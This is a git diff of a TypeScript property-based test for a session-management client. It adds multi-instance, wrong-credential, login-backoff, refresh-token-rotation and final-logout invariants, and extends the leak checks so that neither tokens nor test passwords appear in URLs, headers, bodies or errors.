@@ -4,8 +4,10 @@ import { afterEach, expect, test, vi } from 'vitest'
 import {
   createSessionFetch,
   memoryStore,
+  type PlantlyCredentials,
   plantlySessions,
   type SessionFetch,
+  type SessionProtocol,
   type SessionStore,
   type StoreSnapshot,
 } from '../src/index.js'
@@ -17,6 +19,7 @@ import {
   hashText,
   ScriptedApi,
   type TokenFormat,
+  type TokenInfo,
 } from './helpers/scripted-api.js'
 
 // Model-based, property-based test of the whole client (issue 5, part 1): random interleavings of requests
@@ -26,11 +29,20 @@ import {
 
 const RUNS = Number(process.env.FC_RUNS ?? 1000)
 const SEED = process.env.FC_SEED === undefined ? undefined : Number(process.env.FC_SEED)
+/** FC_STATS=1 prints, after the property, how often each scenario and each documented exception occurred. */
+const STATS = process.env.FC_STATS === '1'
+/** FC_TRACE=1 prints every exchange of a run that broke an invariant. */
+const TRACE = process.env.FC_TRACE === '1'
+const totals: Record<string, number> = {}
 
 const BASE = 'https://api.test/v1'
 const FILES = 'https://files.test'
-const DEMO = { email_address: 'demo@plantly.test', password: 'plantly' }
-const ROBOT = { email_address: 'robot@plantly.test', password: 'beep' }
+// Passwords no other string of a run can contain by chance, so that finding one anywhere is a leak.
+const DEMO = { email_address: 'demo@plantly.test', password: 'pw-demo-5Qe8Lm' }
+const ROBOT = { email_address: 'robot@plantly.test', password: 'pw-robot-Kx3zVw' }
+const WRONG_PASSWORD = 'pw-wrong-Zt7uNb'
+const PASSWORDS = [DEMO.password, ROBOT.password, WRONG_PASSWORD]
+const USERS = { [DEMO.email_address]: DEMO.password, [ROBOT.email_address]: ROBOT.password }
 const encoder = new TextEncoder()
 const realSetImmediate = setImmediate
 
@@ -63,6 +75,7 @@ const FAULTS: Fault[] = [
   '403',
   'drop',
   'drop-after',
+  'drop-after', // twice: the one fault after which a client may present a rotated refresh token again
   'hang',
   'html',
   'no-access-token',
@@ -80,8 +93,15 @@ interface Config {
   /** The protocol's first retry delay (200 by default: with jitter, near short refresh timeouts). */
   retryDelayMs?: number
   credentials: boolean
-  instances: 1 | 2
+  /** `credentials()` starts out answering a wrong password (the `credentials` command switches it). */
+  credentialsWrong?: boolean
+  /** Instances sharing one memoryStore(). */
+  instances: 1 | 2 | 3
   startLoggedIn: boolean
+  /** The client's first backoff after a failed unattended login (8 times that is its cap). @default 1_000 */
+  loginBackoffMs?: number
+  /** The instance that calls the last logout(), once everything else has settled. @default 0 */
+  finalLogout?: number
 }
 
 type Command =
@@ -94,7 +114,8 @@ type Command =
       signal: 'none' | 'live' | 'aborted'
       payload: string
     }
-  | { t: 'deliver'; pick: number; fault: Fault }
+  /** Answer a pending call (`session`: a login, refresh or logout when one is pending) with `fault`. */
+  | { t: 'deliver'; pick: number; fault: Fault; session?: boolean }
   | { t: 'abort'; pick: number }
   | { t: 'tick'; ms: number }
   | { t: 'jump'; percentOfTtl: number }
@@ -103,6 +124,12 @@ type Command =
   | { t: 'login'; instance: number; wrongPassword: boolean }
   | { t: 'logout'; instance: number }
   | { t: 'refresh'; instance: number }
+  /** What `credentials()` answers from now on: the robot's password, or a wrong one (unattended logins refused). */
+  | { t: 'credentials'; wrong: boolean }
+  /** login() on one instance, then logout() on one (the same or a sibling) in the same tick, neither awaited. */
+  | { t: 'login-logout'; instance: number; other: number }
+  /** A request (which may start an unattended login, or a refresh), then an explicit login() in the same tick. */
+  | { t: 'fetch-login'; instance: number; other: number }
 
 const configArb: fc.Arbitrary<Config> = fc.record({
   tokenFormat: fc.constantFrom<TokenFormat>('jwt', 'jwt', 'jwt-no-iat', 'jwt-no-exp', 'opaque'),
@@ -114,11 +141,14 @@ const configArb: fc.Arbitrary<Config> = fc.record({
   retry: fc.integer({ min: 0, max: 2 }),
   retryDelayMs: fc.constantFrom(10, 200),
   credentials: fc.boolean(),
-  instances: fc.constantFrom<1 | 2>(1, 1, 2),
-  startLoggedIn: fc.oneof({ weight: 4, arbitrary: fc.constant(true) }, fc.constant(false)),
+  credentialsWrong: fc.boolean(),
+  instances: fc.constantFrom<1 | 2 | 3>(1, 1, 2, 3),
+  startLoggedIn: fc.oneof({ weight: 3, arbitrary: fc.constant(true) }, fc.constant(false)),
+  loginBackoffMs: fc.constantFrom(1, 100, 1_000),
+  finalLogout: fc.nat(2),
 })
 
-const instanceArb = fc.nat(1)
+const instanceArb = fc.nat(2)
 const commandArb: fc.Arbitrary<Command> = fc.oneof(
   {
     weight: 6,
@@ -153,6 +183,7 @@ const commandArb: fc.Arbitrary<Command> = fc.oneof(
       t: fc.constant('deliver' as const),
       pick: fc.nat(),
       fault: fc.oneof({ weight: 5, arbitrary: fc.constant<Fault>('ok') }, fc.constantFrom(...FAULTS)),
+      session: fc.boolean(),
     }),
   },
   { weight: 1, arbitrary: fc.record({ t: fc.constant('abort' as const), pick: fc.nat() }) },
@@ -175,7 +206,24 @@ const commandArb: fc.Arbitrary<Command> = fc.oneof(
     }),
   },
   { weight: 1, arbitrary: fc.record({ t: fc.constant('logout' as const), instance: instanceArb }) },
-  { weight: 1, arbitrary: fc.record({ t: fc.constant('refresh' as const), instance: instanceArb }) },
+  { weight: 3, arbitrary: fc.record({ t: fc.constant('refresh' as const), instance: instanceArb }) },
+  { weight: 2, arbitrary: fc.record({ t: fc.constant('credentials' as const), wrong: fc.boolean() }) },
+  {
+    weight: 1,
+    arbitrary: fc.record({
+      t: fc.constant('login-logout' as const),
+      instance: instanceArb,
+      other: instanceArb,
+    }),
+  },
+  {
+    weight: 2,
+    arbitrary: fc.record({
+      t: fc.constant('fetch-login' as const),
+      instance: instanceArb,
+      other: instanceArb,
+    }),
+  },
 )
 
 // ---- one run -----------------------------------------------------------------------------------------
@@ -213,7 +261,7 @@ class Run {
   readonly calls: Call[] = []
   readonly callsById = new Map<string, Call>()
   readonly listenersAdded: number[] = []
-  readonly events: { instance: number; name: string; at: number }[] = []
+  readonly events: { instance: number; name: string; at: number; reason?: string }[] = []
   current: Current | undefined
   /** Store version of every access token the client held. */
   readonly versionOf = new Map<string, number>()
@@ -233,6 +281,28 @@ class Run {
   loginRefusals = 0
   lastRefreshFailureAt = Number.NEGATIVE_INFINITY
   lifetimeMs: number | undefined
+  /** What `credentials()` answers: the robot's password, or a wrong one. */
+  robotWrong = false
+  /**
+   * Per instance, a lower bound of its unattended-login backoff: refusals since its last successful login, and
+   * the time before which it must not log in unattended (the client counts other failures too: never less).
+   */
+  readonly backoff: { refusals: number; until: number }[] = []
+  /** Exchanges that presented an already rotated refresh token, checked when sent. */
+  readonly presentedRotated = new Set<number>()
+  /**
+   * What the run met, by kind: the documented exceptions the invariants allowed (counted, never silent: a refresh
+   * token presented again after the answer that rotated it was lost, see {@link Run.checkPresented}; a session
+   * still live after the last logout that the client could not end, see {@link Run.excusedLive}), and the
+   * scenarios it covered (`scenario: …`, for FC_STATS).
+   */
+  readonly counted: Record<string, number> = {}
+  /** Every session the client ended through the protocol (its `logout`): with or without the refresh token. */
+  readonly ends: { access: string; refresh: string | undefined; failed: boolean }[] = []
+  /** The id of the last exchange sent when the store was last written. */
+  lastWriteMark = 0
+  /** The family of the session the store held when the last logout() was called. */
+  finalFamily: number | undefined
   private nextCall = 1
 
   constructor(
@@ -242,6 +312,7 @@ class Run {
     this.api = new ScriptedApi({
       baseURL: BASE,
       apiOrigins: [FILES],
+      users: USERS,
       ttlSeconds: config.ttlSeconds,
       tokenFormat: config.tokenFormat,
       expiresIn: config.expiresIn,
@@ -256,8 +327,127 @@ class Run {
     this.violations.push(`[t=${Date.now()}] ${text}`)
   }
 
+  /**
+   * Why a session still live after the last logout() is one the client could not end, or undefined when it could
+   * have. Only the session's newest tokens count (ending an older one of the same session ends nothing), and for
+   * the session the last logout() found in the store only the first reason holds:
+   * - the answer that carried its newest tokens was lost (the connection closed after the server acted);
+   * - the server refused its newest refresh token (a scripted 400/401/403): the client believes it;
+   * - the client's end of it failed (a fault on the DELETE or on logout's renewal: logout() rejected with
+   *   LogoutError, or a background end that nobody awaits);
+   * - the client ended it with the access token only, as documented for a session a login replaced or whose
+   *   write lost (its refresh token may be in a sibling's hands), and that access token had expired.
+   */
+  excusedLive(family: number): string | undefined {
+    const newest = this.newestTokens(family)
+    if (newest === undefined) return undefined
+    const issuer = this.api.history[newest.issuedBy - 1]
+    if (issuer?.state === 'failed' && issuer.fault === 'drop-after') return 'live: its answer was lost'
+    if (family === this.finalFamily) return undefined
+    const refused = this.api.history.some(
+      (e) =>
+        e.kind === 'refresh' &&
+        e.token !== undefined &&
+        this.api.tokens.get(e.token) === newest &&
+        [400, 401, 403].includes(e.status ?? 0),
+    )
+    if (refused) return 'live: the server refused its refresh token'
+    let access: string | undefined
+    for (const [token, info] of this.api.tokens) {
+      if (info.family === family && info.kind === 'access' && info.issuedBy === newest.issuedBy)
+        access = token
+    }
+    // An end of its newest session, or one whose renewal (logout's, for an expired access token) obtained it.
+    const ends = this.ends.filter(
+      (end) => end.access === access || (end.refresh !== undefined && issuer?.token === end.refresh),
+    )
+    if (ends.some((end) => end.failed))
+      return 'live: ending it failed (logout() rejected, or a background end)'
+    if (ends.some((end) => end.refresh === undefined))
+      return 'live: ended with its access token only, which had expired'
+    return undefined
+  }
+
+  newestTokens(family: number): TokenInfo | undefined {
+    let newest: TokenInfo | undefined
+    for (const info of this.api.tokens.values()) {
+      if (info.family === family && info.kind === 'refresh' && (!newest || info.issuedBy > newest.issuedBy))
+        newest = info
+    }
+    return newest
+  }
+
+  /** Every exchange of the run, one per line (FC_TRACE). */
+  trace(): string {
+    const short = (token: string | undefined) => {
+      const info = token === undefined ? undefined : this.api.tokens.get(token)
+      return info
+        ? `${info.kind}(family ${info.family}, from #${info.issuedBy})`
+        : token === undefined
+          ? '-'
+          : '?'
+    }
+    return this.api.history
+      .map(
+        (e) =>
+          `#${e.id} [${e.tag}] t=${e.sentAt} ${e.kind} ${e.method} ${short(e.token)} ${e.callId ?? ''} → ${e.state} ${e.status ?? ''} ${e.fault ?? ''} settledAfter=${e.settledAfter}`,
+      )
+      .concat(this.violations)
+      .join('\n')
+  }
+
+  /** What happened to a session family, exchange by exchange, for a violation's message. */
+  story(family: number): string {
+    const lines: string[] = []
+    for (const e of this.api.history) {
+      const issued = [...this.api.tokens.values()].some((t) => t.family === family && t.issuedBy === e.id)
+      const presented = this.api.familyOf(e.token) === family
+      if (!issued && !presented) continue
+      const what = issued ? 'issued by' : `presented ${this.api.tokens.get(e.token as string)?.kind} in`
+      lines.push(
+        `#${e.id} ${what} ${e.kind} from ${e.tag} at ${e.sentAt} → ${e.state}${e.status ? ` ${e.status}` : ''}${e.fault ? ` (${e.fault})` : ''}`,
+      )
+    }
+    return lines.join('; ')
+  }
+
+  count(kind: string): void {
+    this.counted[kind] = (this.counted[kind] ?? 0) + 1
+  }
+
+  /** A token or a password in `text`. */
+  containsSecret(text: string): boolean {
+    return containsToken(text, this.api.tokens) || PASSWORDS.some((password) => text.includes(password))
+  }
+
+  /**
+   * A refresh token goes out only while the server has not rotated it. The one exception no client can avoid:
+   * the refresh that rotated it was processed but its answer was lost (the connection closed after the server
+   * acted: `drop-after`), and the token is presented again after that loss (ofetch's retry, or the next
+   * refresh). The client cannot tell that loss from a request that never arrived; giving the session up on
+   * every network error instead would end sessions that are fine. Counted as `lost answer, token presented again`.
+   */
+  checkPresented(exchange: Exchange, rotatedBy: number | undefined, when: 'sent' | 'processed'): void {
+    const rotator = rotatedBy === undefined ? undefined : this.api.history[rotatedBy - 1]
+    if (
+      rotator !== undefined &&
+      rotator.state === 'failed' &&
+      rotator.fault === 'drop-after' &&
+      exchange.id > (rotator.settledAfter ?? Number.POSITIVE_INFINITY)
+    ) {
+      this.count('lost answer, token presented again')
+      return
+    }
+    this.violation(
+      when === 'sent'
+        ? `a refresh token presented after it was rotated (by exchange ${rotatedBy}, ${rotator?.state}/${rotator?.fault})`
+        : `a refresh token presented while another presentation of it was in flight (rotated by exchange ${rotatedBy})`,
+    )
+  }
+
   // Every store write, seen before any instance reacts to it.
   observeWrite(snapshot: StoreSnapshot): void {
+    this.lastWriteMark = this.api.counters.exchanges
     const record = snapshot.record
     if (!record) {
       // A logout written to the store ends the session for every instance sharing it: nothing may bring
@@ -315,12 +505,17 @@ class Run {
     const now = Date.now()
     const current = this.current
     const tokens = this.api.tokens
-    // Secrets never travel anywhere but their own header.
+    // Secrets never travel anywhere but their own place: a token in Authorization, a password in the login body.
     for (const [name, value] of exchange.headers) {
+      if (PASSWORDS.some((password) => value.includes(password)))
+        this.violation(`a password in header ${name} of ${exchange.url}`)
       if (name === 'authorization') continue
       if (containsToken(value, tokens)) this.violation(`a token in header ${name} of ${exchange.url}`)
     }
-    if (containsToken(exchange.url, tokens)) this.violation(`a token in the URL ${exchange.url}`)
+    if (this.containsSecret(exchange.url)) this.violation(`a token or password in the URL ${exchange.url}`)
+    if (exchange.kind !== 'login' && exchange.text !== undefined && this.containsSecret(exchange.text)) {
+      this.violation(`a token or password in the body of ${exchange.method} ${exchange.url}`)
+    }
     const info = exchange.token === undefined ? undefined : tokens.get(exchange.token)
     const authorization = exchange.headers.get('authorization')
     if (authorization !== null && exchange.kind !== 'refresh' && info?.kind === 'refresh') {
@@ -333,40 +528,49 @@ class Run {
       case 'foreign':
         if (authorization !== null) this.violation(`Authorization sent to another origin: ${exchange.url}`)
         break
-      case 'login':
+      case 'login': {
         if (authorization !== null) this.violation('Authorization on the login call')
-        if (exchange.text?.includes(ROBOT.email_address) && this.loggedOut[Number(exchange.tag)]) {
+        if (!exchange.text?.includes(ROBOT.email_address)) break
+        const instance = Number(exchange.tag)
+        if (this.loggedOut[instance]) {
+          this.violation(`instance ${instance}: an unattended login ran after logout(), before any login()`)
+        }
+        // After a refused unattended login, the next one waits for the backoff (an explicit login is not held back).
+        const backoff = this.backoff[instance]
+        if (backoff && now < backoff.until) {
           this.violation(
-            `instance ${exchange.tag}: an unattended login ran after logout(), before any login()`,
+            `instance ${instance}: an unattended login ${backoff.until - now} ms before its backoff ended (${backoff.refusals} refusals)`,
           )
         }
         break
+      }
       case 'logout':
         if (info?.kind !== 'access') this.violation('logout sent without an access token')
         break
       case 'refresh': {
-        // logout() with an expired access token renews the ended session once, only to end it on the server
-        // (DELETE needs a live access token): the refresh token of the session that logout() ended, retries included.
-        const renewal = exchange.token === undefined ? undefined : this.logoutRenewals.get(exchange.token)
-        if (renewal && !renewal.settled) break
-        // One refresh in flight per session (family): logout's renewal of an ended session may overlap the
-        // first refresh of the next session, which is a different one.
-        const family = this.api.familyOf(exchange.token)
-        if (this.api.inFlight('refresh', (other) => this.api.familyOf(other.token) === family) > 0)
-          this.violation('a second refresh of one session went out while one was in flight')
         const token = exchange.token
         if (token === undefined || info?.kind !== 'refresh') {
           this.violation('a refresh without a refresh token')
           break
         }
+        // Every PUT, whoever sends it and whatever session it renews: never a rotated refresh token (checked
+        // again when the server processes it, for a presentation that overlapped the one that rotated it).
+        if (info.used) {
+          this.presentedRotated.add(exchange.id)
+          this.checkPresented(exchange, info.rotatedBy, 'sent')
+        }
+        // logout() with an expired access token renews the ended session once, only to end it on the server
+        // (DELETE needs a live access token): the refresh token of the session that logout() ended, retries included.
+        const renewal = this.logoutRenewals.get(token)
+        if (renewal && !renewal.settled) break
+        // One refresh in flight per session (family): logout's renewal of an ended session may overlap the
+        // first refresh of the next session, which is a different one.
+        const family = this.api.familyOf(token)
+        if (this.api.inFlight('refresh', (other) => this.api.familyOf(other.token) === family) > 0)
+          this.violation('a second refresh of one session went out while one was in flight')
         const isRetry = this.refreshTokensSent.has(token)
         this.refreshTokensSent.add(token)
-        if (token !== current?.refresh) {
-          // Only to end a session the client dropped (replaced by a login, or obtained while a logout ran): it
-          // is renewed once for the DELETE, and its refresh token must never have been rotated already.
-          if (info.used && !isRetry) this.violation('a refresh token presented after it was rotated')
-          break
-        }
+        if (token !== current?.refresh) break
         if (
           current.family !== undefined &&
           this.endedFamilies.has(current.family) &&
@@ -419,13 +623,32 @@ class Run {
   }
 
   noteSettled(exchange: Exchange): void {
+    // A refresh token the server found already rotated, although it was not when it was sent: two presentations
+    // overlapped.
+    if (exchange.reuseOf !== undefined && !this.presentedRotated.has(exchange.id)) {
+      this.checkPresented(exchange, exchange.reuseOf, 'processed')
+    }
     // A refresh (or an unattended login standing in for one) that did not produce a session.
-    if (
-      exchange.kind === 'login' &&
-      exchange.state === 'answered' &&
-      [400, 401, 403].includes(exchange.status ?? 0)
-    ) {
+    const refused = exchange.state === 'answered' && [400, 401, 403].includes(exchange.status ?? 0)
+    if (exchange.kind === 'login' && refused) {
       this.loginRefusals++ // a refused unattended login fails the calls that waited for it with LoginError
+    }
+    if (exchange.kind === 'login' && exchange.tag !== undefined) {
+      const backoff = this.backoff[Number(exchange.tag)] as { refusals: number; until: number }
+      // A refusal the client no longer waited for (the session was replaced, or a logout began, after the login
+      // was sent) is not counted: the client drops that attempt's outcome, backoff included.
+      const superseded =
+        this.lastWriteMark >= exchange.id || (this.loggedOutAfter[Number(exchange.tag)] ?? 0) >= exchange.id
+      if (refused && exchange.text?.includes(ROBOT.email_address) && !superseded) {
+        const base = this.config.loginBackoffMs ?? 1_000
+        backoff.refusals++
+        const wait = Math.min(8 * base, base * 2 ** (backoff.refusals - 1))
+        backoff.until = Math.max(backoff.until, Date.now() + wait)
+      } else if (exchange.state === 'answered' && exchange.status === 200 && exchange.fault === 'ok') {
+        // A login of this instance (unattended, or login()) succeeded: the backoff starts over.
+        backoff.refusals = 0
+        backoff.until = 0
+      }
     }
     if (exchange.kind === 'refresh' || exchange.kind === 'login') {
       const ok = exchange.state === 'answered' && exchange.status === 200 && exchange.fault === 'ok'
@@ -474,8 +697,9 @@ class Run {
   checkOutcome(call: Call): void {
     if (call.failed) {
       const error = call.error
-      const leaked = leakIn(error, this.api.tokens)
-      if (leaked) this.violation(`call ${call.id} (${call.kind}): a token in its error's ${leaked}`)
+      const leaked = leakIn(error, (text) => this.containsSecret(text))
+      if (leaked)
+        this.violation(`call ${call.id} (${call.kind}): a token or password in its error's ${leaked}`)
       const name = error instanceof Error ? error.name : typeof error
       const aborted = call.signal?.aborted === true && error === call.signal.reason
       const last = call.exchanges.at(-1)
@@ -493,6 +717,8 @@ class Run {
           name === 'SessionExpiredError' ||
           (name === 'LoginError' && this.loginRefusals > 0),
       }
+      if (name === 'LoginError' && call.kind !== 'login')
+        this.count('scenario: a call rejected with LoginError')
       if (!allowed[call.kind]) {
         this.violation(
           `call ${call.id} (${call.kind}) rejected with an undocumented ${name}: ${String(error)}`,
@@ -517,21 +743,21 @@ function containsToken(text: string, tokens: ReadonlyMap<string, unknown>): bool
   return false
 }
 
-/** Where a token shows up in an error (message, cause chain, JSON, stack), or undefined. */
-function leakIn(error: unknown, tokens: ReadonlyMap<string, unknown>): string | undefined {
+/** Where a secret (a token or a password) shows up in an error (message, cause chain, JSON, stack), or undefined. */
+function leakIn(error: unknown, secretIn: (text: string) => boolean): string | undefined {
   let json = ''
   try {
     json = JSON.stringify(error) ?? ''
   } catch {
     json = ''
   }
-  if (containsToken(json, tokens)) return 'JSON'
+  if (secretIn(json)) return 'JSON'
   let depth = 0
   for (let e: unknown = error; e instanceof Error && depth < 8; e = e.cause, depth++) {
-    if (containsToken(e.message, tokens)) return depth === 0 ? 'message' : `cause(${depth}) message`
-    if (containsToken(String(e.stack), tokens)) return `stack (${depth})`
+    if (secretIn(e.message)) return depth === 0 ? 'message' : `cause(${depth}) message`
+    if (secretIn(String(e.stack))) return `stack (${depth})`
     const own = Object.entries(e).map(([key, value]) => `${key}=${String(value)}`)
-    if (containsToken(own.join('\n'), tokens)) return `properties (${depth})`
+    if (secretIn(own.join('\n'))) return `properties (${depth})`
   }
   return undefined
 }
@@ -636,11 +862,33 @@ function startFetch(run: Run, command: Extract<Command, { t: 'fetch' }>): void {
   run.track(call, promise)
 }
 
-async function deliverNow(run: Run, index: number, fault: Fault): Promise<void> {
-  const pending = run.api.pending()
+async function deliverNow(run: Run, index: number, fault: Fault, session = false): Promise<void> {
+  const all = run.api.pending()
+  const calls = session
+    ? all.filter((e) => e.kind === 'login' || e.kind === 'refresh' || e.kind === 'logout')
+    : []
+  const pending = calls.length > 0 ? calls : all
   if (pending.length === 0) return
   const exchange = pending[index % pending.length] as Exchange
   await run.api.deliver(exchange, fault)
+}
+
+function startLogin(run: Run, command: Command, instance: number, wrongPassword: boolean): void {
+  const unattended = (e: Exchange) => e.text?.includes(ROBOT.email_address) === true
+  if (run.api.inFlight('login', unattended) > 0) run.count('scenario: login() while an unattended login runs')
+  const call = run.newCall('login', command)
+  const credentials = wrongPassword ? { ...DEMO, password: WRONG_PASSWORD } : DEMO
+  run.track(call, (run.instances[instance % run.instances.length] as SessionFetch).login(credentials))
+}
+
+function startLogout(run: Run, command: Command, instance: number): void {
+  // From here on, this session is over: nothing may bring it back, nobody may log in unattended.
+  const index = instance % run.instances.length
+  run.loggedOut[index] = true
+  run.loggedOutAfter[index] = run.api.counters.exchanges
+  const call = run.newCall('logout', command)
+  if (run.current?.refresh !== undefined) run.logoutRenewals.set(run.current.refresh, call)
+  run.track(call, (run.instances[index] as SessionFetch).logout())
 }
 
 async function execute(run: Run, command: Command): Promise<void> {
@@ -659,7 +907,7 @@ async function execute(run: Run, command: Command): Promise<void> {
       break
     }
     case 'deliver':
-      await deliverNow(run, command.pick, command.fault)
+      await deliverNow(run, command.pick, command.fault, command.session)
       break
     case 'abort': {
       const live = run.calls.filter((c) => !c.settled && c.controller && !c.controller.signal.aborted)
@@ -681,22 +929,31 @@ async function execute(run: Run, command: Command): Promise<void> {
     case 'revoke':
       run.api.revokeAll()
       break
-    case 'login': {
-      const call = run.newCall('login', command)
-      const credentials = command.wrongPassword ? { ...DEMO, password: 'wrong' } : DEMO
-      run.track(call, pick(command.instance).login(credentials))
+    case 'login':
+      startLogin(run, command, command.instance, command.wrongPassword)
       break
-    }
-    case 'logout': {
-      // From here on, this session is over: nothing may bring it back, nobody may log in unattended.
-      const index = command.instance % run.instances.length
-      run.loggedOut[index] = true
-      run.loggedOutAfter[index] = run.api.counters.exchanges
-      const call = run.newCall('logout', command)
-      if (run.current?.refresh !== undefined) run.logoutRenewals.set(run.current.refresh, call)
-      run.track(call, pick(command.instance).logout())
+    case 'logout':
+      startLogout(run, command, command.instance)
       break
-    }
+    case 'credentials':
+      run.robotWrong = command.wrong
+      break
+    case 'login-logout':
+      startLogin(run, command, command.instance, false)
+      startLogout(run, command, command.other)
+      break
+    case 'fetch-login':
+      startFetch(run, {
+        t: 'fetch',
+        instance: command.instance,
+        target: 'relative',
+        input: 'string',
+        body: 'none',
+        signal: 'none',
+        payload: '',
+      })
+      startLogin(run, command, command.other, false)
+      break
     case 'refresh': {
       if (run.current) run.refreshWanted.add(run.current.version)
       const call = run.newCall('refresh', command)
@@ -726,7 +983,39 @@ async function drain(run: Run): Promise<boolean> {
   return false
 }
 
-async function runModel(config: Config, commands: readonly Command[]): Promise<Run> {
+/** A deliberately broken client, for the tests that show an invariant check can fail. */
+interface Breakage {
+  protocol?: (protocol: SessionProtocol<PlantlyCredentials>) => SessionProtocol<PlantlyCredentials>
+  /** The client's own backoff, instead of the one the model expects (config.loginBackoffMs). */
+  loginBackoffMs?: number
+}
+
+/** The protocol the instances use, with every session they end recorded (see {@link Run.excusedLive}). */
+function observedProtocol(run: Run, breakage: Breakage): SessionProtocol<PlantlyCredentials> {
+  const plantly = plantlySessions({
+    baseURL: BASE,
+    retry: run.config.retry,
+    retryDelayMs: run.config.retryDelayMs ?? 200,
+  })
+  const base = breakage.protocol ? breakage.protocol(plantly) : plantly
+  const logout = base.logout
+  if (!logout) return base
+  return {
+    ...base,
+    async logout(session, context) {
+      const end = { access: session.access_token, refresh: session.refresh_token, failed: false }
+      run.ends.push(end)
+      try {
+        await logout.call(base, session, context)
+      } catch (error) {
+        end.failed = true
+        throw error
+      }
+    },
+  }
+}
+
+async function runModel(config: Config, commands: readonly Command[], breakage: Breakage = {}): Promise<Run> {
   vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout', 'setInterval', 'clearInterval', 'Date'] })
   vi.setSystemTime(Date.UTC(2026, 0, 1, 12))
   // Retry jitter uses Math.random: a seeded generator keeps every run reproducible (and values distinct).
@@ -738,6 +1027,7 @@ async function runModel(config: Config, commands: readonly Command[]): Promise<R
   const inner = memoryStore()
   const store: SessionStore = inner
   const run = new Run(config, store)
+  run.robotWrong = config.credentialsWrong ?? false
   inner.subscribe?.((snapshot) => run.observeWrite(snapshot))
   try {
     for (let i = 0; i < config.instances; i++) {
@@ -748,20 +1038,24 @@ async function runModel(config: Config, commands: readonly Command[]): Promise<R
         allowedOrigins: [FILES],
         refreshWindowMs: config.refreshWindowMs,
         refreshTimeoutMs: config.refreshTimeoutMs,
-        protocol: plantlySessions({
-          baseURL: BASE,
-          retry: config.retry,
-          retryDelayMs: config.retryDelayMs ?? 200,
-        }),
+        protocol: observedProtocol(run, breakage),
         now: () => Date.now(),
-        ...(config.credentials ? { credentials: () => ROBOT } : {}),
+        loginBackoffMs: breakage.loginBackoffMs ?? config.loginBackoffMs ?? 1_000,
+        loginBackoffMaxMs: 8 * (breakage.loginBackoffMs ?? config.loginBackoffMs ?? 1_000),
+        ...(config.credentials
+          ? { credentials: () => (run.robotWrong ? { ...ROBOT, password: WRONG_PASSWORD } : ROBOT) }
+          : {}),
       })
       for (const name of ['login', 'refresh', 'logout', 'expired'] as const) {
-        instance.on(name, () => run.events.push({ instance: i, name, at: Date.now() }))
+        instance.on(name, (payload) => {
+          const reason = 'reason' in payload ? payload.reason : undefined
+          run.events.push({ instance: i, name, at: Date.now(), ...(reason ? { reason } : {}) })
+        })
       }
       run.listenersAdded.push(4)
       run.loggedOut.push(false)
       run.loggedOutAfter.push(0)
+      run.backoff.push({ refusals: 0, until: 0 })
       run.instances.push(instance)
     }
     if (config.startLoggedIn) {
@@ -772,7 +1066,16 @@ async function runModel(config: Config, commands: readonly Command[]): Promise<R
       await login
     }
     for (const command of commands) await execute(run, command)
-    const settled = await drain(run)
+    // The last logout, made exact: everything pending is delivered and settles first, then one instance logs
+    // out with nothing racing it, and that settles too.
+    let settled = await drain(run)
+    if (settled) {
+      if (run.api.liveFamilies().length > 0)
+        run.count('scenario: the last logout() had a live session to end')
+      run.finalFamily = run.current?.family
+      await execute(run, { t: 'logout', instance: config.finalLogout ?? 0 })
+      settled = await drain(run)
+    }
     if (!settled) {
       const open = run.calls.filter((c) => !c.settled).map((c) => `${c.id} ${JSON.stringify(c.command)}`)
       run.violation(`hang: calls never settled: ${open.join('; ')}`)
@@ -790,6 +1093,16 @@ async function runModel(config: Config, commands: readonly Command[]): Promise<R
 
 async function finalChecks(run: Run): Promise<void> {
   if (vi.getTimerCount() > 0) run.violation(`${vi.getTimerCount()} timer(s) outlived every call`)
+  await checkLoggedOut(run)
+  // No request body carries a token, and only the login's carries a password.
+  for (const exchange of run.api.history) {
+    const body = await exchange.body.catch(() => undefined)
+    if (!body) continue
+    if (containsToken(body.text, run.api.tokens))
+      run.violation(`a token in the body of ${exchange.method} ${exchange.url}`)
+    if (exchange.kind !== 'login' && PASSWORDS.some((password) => body.text.includes(password)))
+      run.violation(`a password in the body of ${exchange.method} ${exchange.url}`)
+  }
   run.instances.forEach((instance, i) => {
     const stats = instance.stats()
     if (stats.pendingRefreshes !== 0)
@@ -822,11 +1135,14 @@ async function finalChecks(run: Run): Promise<void> {
       run.violation(`call ${call.id}: the replay did not send identical bytes and headers`)
     }
   }
-  // `expired` fires once per death: never twice without a new session in between.
+  // `expired` fires once per death: never twice without a new session in between, except once per refused
+  // unattended login (`login_rejected`: each refusal is news, the credentials are wrong).
   for (let i = 0; i < run.instances.length; i++) {
     let dead = false
     for (const event of run.events.filter((e) => e.instance === i)) {
-      if (event.name === 'expired') {
+      if (event.name === 'expired' && event.reason === 'login_rejected' && event.instance === i) {
+        dead = true
+      } else if (event.name === 'expired') {
         if (dead) run.violation(`instance ${i}: expired fired twice for one death`)
         dead = true
       } else if (event.name === 'login' || event.name === 'refresh') dead = false
@@ -834,11 +1150,50 @@ async function finalChecks(run: Run): Promise<void> {
   }
 }
 
+/**
+ * After the last logout() (nothing else pending), no instance holds a session, and no session is live on the
+ * server unless the client cannot end it (see {@link Run.excusedLive}).
+ */
+async function checkLoggedOut(run: Run): Promise<void> {
+  const logout = run.calls.at(-1)
+  if (logout?.kind !== 'logout') run.violation('the last call is not the final logout()')
+  // Nothing failed on its way (every call is answered as asked): the server confirmed, so it resolves.
+  else if (logout.failed) run.violation(`the last logout() rejected: ${String(logout.error)}`)
+  for (const [i, instance] of run.instances.entries()) {
+    const session = await instance.getSession().catch((error: unknown) => error)
+    if (session !== undefined) run.violation(`instance ${i} still holds a session after the last logout()`)
+  }
+  for (const family of run.api.liveFamilies()) {
+    const excuse = run.excusedLive(family)
+    if (excuse) run.count(excuse)
+    else
+      run.violation(
+        `session ${family} is still live on the server after the last logout(): ${run.story(family)}`,
+      )
+  }
+}
+
 // ---- the property, and the regressions it found ---------------------------------------------------------
 
 async function property(config: Config, commands: Command[]): Promise<void> {
   const run = await runModel(config, commands)
-  if (run.violations.length > 0) throw new Error(run.violations.slice(0, 8).join('\n'))
+  if (STATS) {
+    const refused = run.api.history.filter(
+      (e) => e.kind === 'login' && e.text?.includes(ROBOT.email_address) && e.status === 401,
+    )
+    if (refused.length > 0) run.count('scenario: an unattended login refused')
+    if (run.api.history.some((e) => e.kind === 'refresh' && e.fault === 'drop-after'))
+      run.count('scenario: a refresh answer lost after the server rotated')
+    if (run.api.history.some((e) => e.kind === 'refresh')) run.count('scenario: any refresh')
+    if (run.api.history.some((e) => e.kind === 'refresh' && e.fault !== undefined && e.fault !== 'ok'))
